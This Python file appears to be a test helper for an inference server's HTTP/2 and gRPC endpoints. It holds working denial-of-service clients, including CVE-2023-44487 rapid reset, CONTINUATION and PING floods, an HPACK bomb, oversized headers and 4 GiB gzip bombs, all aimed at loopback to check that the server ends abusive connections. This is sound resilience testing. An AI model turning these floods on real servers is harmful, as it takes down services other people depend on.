"""Hostile clients, each run as a process of its own by tests/test_floods.py (and by hand:
`python tests/hostile_clients.py ATTACK HOST HTTP_PORT GRPC_PORT SECONDS`): one attack, repeated
for a bounded time against loopback, reconnecting whenever the server closes the connection. At the
end it prints one JSON line: how many connections it made, how many the server ended, and with which
GOAWAY codes."""

from __future__ import annotations

import json
import socket
import sys
import threading
import time
import zlib

from hpack.hpack import encode_integer
from tritonclient.grpc import service_pb2 as pb

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4
SERVICE = "/inference.GRPCInferenceService/"


def h2frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """An HPACK integer (RFC 7541 5.1) whose first byte carries the bits `first` too."""
    out = encode_integer(value, prefix_bits)
    out[0] |= first
    return bytes(out)


def raw_contents_field(length: int) -> bytes:
    """The tag and length of a ModelInferRequest's raw_input_contents field of `length` bytes."""
    return pb.ModelInferRequest(raw_input_contents=[b"\0" * 200]).SerializeToString()[:1] \
        + _length(length)


def _length(n: int) -> bytes:
    """A protobuf varint: seven bits a byte, the high bit set on all but the last."""
    groups = max(1, (n.bit_length() + 6) // 7)
    return bytes((n >> 7 * i & 0x7F) | (0x80 if i < groups - 1 else 0) for i in range(groups))


def literal(name: bytes, value: bytes, indexed: bool = False) -> bytes:
    """A header field with a new name, literal (RFC 7541 6.2): added to the dynamic table or not."""
    return (b"\x40" if indexed else b"\x00") + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def call_block(method: str = "ServerLive") -> bytes:
    """A gRPC call's header block that leaves the dynamic table alone."""
    return (b"\x83\x86"  # :method POST, :scheme http (static table)
            + b"\x04" + hpack_int(len(SERVICE + method), 7) + (SERVICE + method).encode()  # :path, not indexed
            + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


class Conn:
    """One HTTP/2 connection; a thread reads (or, with `read=False`, never reads) what the server sends
    and notes a GOAWAY's code, the gRPC status of each call answered, and the connection's end."""

    def __init__(self, port: int, read: bool = True, rcvbuf: int = 0):
        self.sock = socket.socket()
        if rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.connect(("127.0.0.1", port))
        self.closed = threading.Event()
        self.goaway: int | None = None
        self.answers: list[str] = []  # "grpc-status: grpc-message" of each call answered
        self.sock.sendall(PREFACE + h2frame(SETTINGS, 0, 0))
        if read:
            threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        import hpack

        decoder = hpack.Decoder()
        buf = b""
        try:
            while True:
                data = self.sock.recv(1 << 20)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    if buf[3] == GOAWAY and length >= 8:
                        self.goaway = int.from_bytes(buf[13:17], "big")
                    elif buf[3] == HEADERS and buf[4] & END_STREAM:
                        fields = dict(decoder.decode(buf[9:9 + length]))
                        self.answers.append(f"{fields.get('grpc-status')}: {fields.get('grpc-message', '')}")
                    buf = buf[9 + length:]
        except OSError:
            pass
        self.closed.set()

    def send(self, data: bytes) -> bool:
        """False once the server has ended the connection."""
        if self.closed.is_set():
            return False
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed.set()
            return False

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


class Tally:
    def __init__(self, seconds: float):
        self.until = time.monotonic() + seconds
        self.connections = 0
        self.ended = 0
        self.goaways: dict[str, int] = {}
        self.answers: dict[str, int] = {}
        self.sent = 0

    def going(self) -> bool:
        return time.monotonic() < self.until

    def done(self, conn: Conn) -> None:
        self.connections += 1
        conn.closed.wait(0.2)
        if conn.closed.is_set():
            self.ended += 1
        if conn.goaway is not None:
            key = hex(conn.goaway)
            self.goaways[key] = self.goaways.get(key, 0) + 1
        for answer in conn.answers:
            self.answers[answer] = self.answers.get(answer, 0) + 1
        conn.close()


def _repeat(tally: Tally, port: int, opening: bytes, flood: bytes, rounds: int = 400, read: bool = True,
            rcvbuf: int = 0) -> None:
    """Connections that send `opening`, then `flood` over and over until the server ends them (or
    `rounds` times), until the time is up."""
    while tally.going():
        conn = Conn(port, read, rcvbuf)
        if conn.send(opening):
            for _ in range(rounds):
                if not tally.going() or not conn.send(flood):
                    break
                tally.sent += len(flood)
        tally.done(conn)


def settings_window(tally: Tally, port: int) -> None:
    """1,000 open streams, then SETTINGS frames of 1 MiB that change INITIAL_WINDOW_SIZE with every
    entry."""
    streams = b"".join(h2frame(HEADERS, END_HEADERS, 2 * i + 1, call_block()) for i in range(1000))
    entries = b"".join((4).to_bytes(2, "big") + (65535 + (i & 1)).to_bytes(4, "big") for i in range((1 << 20) // 6))
    _repeat(tally, port, streams, h2frame(SETTINGS, 0, 0, entries), rounds=50)


def continuation(tally: Tally, port: int) -> None:
    """A header block that never ends: HEADERS, then empty CONTINUATION frames without end."""
    _repeat(tally, port, h2frame(HEADERS, 0, 1, call_block()), h2frame(CONTINUATION, 0, 1) * 100_000)


def rapid_reset(tally: Tally, port: int) -> None:
    """Streams opened and reset at once (CVE-2023-44487), 5,000 to a write."""
    block = call_block()
    sid = [1]

    def batch() -> bytes:
        out = []
        for _ in range(5000):
            out.append(h2frame(HEADERS, END_HEADERS | END_STREAM, sid[0], block)
                       + h2frame(RST_STREAM, 0, sid[0], (8).to_bytes(4, "big")))
            sid[0] += 2
        return b"".join(out)

    while tally.going():
        sid[0] = 1
        conn = Conn(port)
        while tally.going() and sid[0] < (1 << 30) and conn.send(batch()):
            tally.sent += 1
        tally.done(conn)


def hpack_bomb(tally: Tally, port: int) -> None:
    """A 4 KiB header put in the dynamic table, then header blocks that refer to it 250 times (1 MiB
    once decoded), one block a stream."""
    first = call_block() + literal(b"x-bomb", b"a" * 4000, indexed=True)
    bomb = call_block() + b"\xbe" * 250  # index 62: the newest entry of the dynamic table
    while tally.going():
        conn = Conn(port)
        ok = conn.send(h2frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
        sid = 3
        while ok and tally.going() and sid < 20_000:
            ok = conn.send(b"".join(h2frame(HEADERS, END_HEADERS | END_STREAM, sid + 2 * i, bomb) for i in range(50)))
            sid += 100
            tally.sent += 50
        tally.done(conn)


def ping_flood(tally: Tally, port: int) -> None:
    """PING and SETTINGS frames, each wanting an answer, from a client that never reads them; a call
    stays open, so gRPC's ping policy alone allows them."""
    opening = h2frame(HEADERS, END_HEADERS, 1, call_block("ModelStreamInfer"))
    _repeat(tally, port, opening, (h2frame(PING, 0, 0, b"12345678") + h2frame(SETTINGS, 0, 0)) * 2000, rounds=2000,
            read=False, rcvbuf=4096)


def http_huge_header(tally: Tally, port: int) -> None:
    """HTTP/1.1 requests with a header of 32 MiB, sent as fast as the server takes it."""
    head = b"GET /v2/health/ready HTTP/1.1\r\nHost: x\r\nX-Huge: "
    chunk = b"a" * (1 << 20)
    while tally.going():
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            tally.connections += 1
            try:
                s.sendall(head)
                for _ in range(32):
                    s.sendall(chunk)
                    tally.sent += len(chunk)
                s.sendall(b"\r\n\r\n")
                answer = s.recv(1024)
            except OSError:
                answer = b""
            if not answer:
                tally.ended += 1
            else:
                key = answer.split(b"\r\n", 1)[0].decode(errors="replace")
                tally.goaways[key] = tally.goaways.get(key, 0) + 1


def _zero_bomb(inflated: int, prefix: bytes = b"") -> bytes:
    """A gzip stream of `prefix` and then zero bytes, `inflated` in all, made without compressing
    them all: after a full flush the compressor's output for the same input repeats, so one MiB's
    output is repeated."""
    mib = bytes(1 << 20)
    comp = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    first = comp.compress(prefix + mib[len(prefix):]) + comp.flush(zlib.Z_FULL_FLUSH)
    again = comp.compress(mib) + comp.flush(zlib.Z_FULL_FLUSH)
    assert comp.compress(mib) + comp.flush(zlib.Z_FULL_FLUSH) == again
    n = inflated >> 20
    return first + again * (n - 1) + comp.flush(zlib.Z_FINISH)  # its trailer's size and CRC are wrong


def grpc_gzip_bomb(tally: Tally, port: int) -> None:
    """Two ModelInfer messages at once, gzipped, each inflating to 4 GiB: of zeros, or (every other
    connection) a raw_input_contents field that says it is 4 GiB long, then zeros."""
    bombs = [_zero_bomb(4 << 30), _zero_bomb(4 << 30, raw_contents_field(4 << 30))]
    block = call_block("ModelInfer") + literal(b"grpc-encoding", b"gzip")
    while tally.going():
        bomb = bombs[tally.connections % 2]
        message = b"\x01" + len(bomb).to_bytes(4, "big") + bomb
        conn = Conn(port)
        ok = conn.send(h2frame(HEADERS, END_HEADERS, 1, block) + h2frame(HEADERS, END_HEADERS, 3, block))
        for sid in (1, 3):
            for i in range(0, len(message), 1 << 14):
                part = message[i:i + (1 << 14)]
                ok = ok and conn.send(h2frame(DATA, END_STREAM if i + (1 << 14) >= len(message) else 0, sid, part))
        tally.sent += 2
        deadline = time.monotonic() + 10
        while ok and len(conn.answers) < 2 and time.monotonic() < deadline:  # the answers, then the next two
            time.sleep(0.01)
        tally.done(conn)


def grpc_huge_prefix(tally: Tally, port: int) -> None:
    """ModelInfer messages whose length prefix says 4 GiB, followed by 8 MiB of bytes."""
    block = call_block("ModelInfer")
    data = b"\x00\xff\xff\xff\xff" + b"\x00" * (8 << 20)
    while tally.going():
        conn = Conn(port)
        ok = conn.send(h2frame(HEADERS, END_HEADERS, 1, block))
        for i in range(0, len(data), 1 << 14):
            ok = ok and conn.send(h2frame(DATA, 0, 1, data[i:i + (1 << 14)]))
        tally.sent += 1
        tally.done(conn)


ATTACKS = {"settings-window": (settings_window, "grpc"), "continuation": (continuation, "grpc"),
           "rapid-reset": (rapid_reset, "grpc"), "hpack-bomb": (hpack_bomb, "grpc"), "ping-flood": (ping_flood, "grpc"),
           "http-huge-header": (http_huge_header, "http"), "grpc-gzip-bomb": (grpc_gzip_bomb, "grpc"),
           "grpc-huge-prefix": (grpc_huge_prefix, "grpc")}


def main(argv: list[str]) -> None:
    name, _host, http_port, grpc_port, seconds = argv
    attack, protocol = ATTACKS[name]
    tally = Tally(float(seconds))
    attack(tally, int(grpc_port if protocol == "grpc" else http_port))
    print(json.dumps({"attack": name, "connections": tally.connections, "ended_by_server": tally.ended,
                      "goaway": tally.goaways, "answers": tally.answers, "sent": tally.sent}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
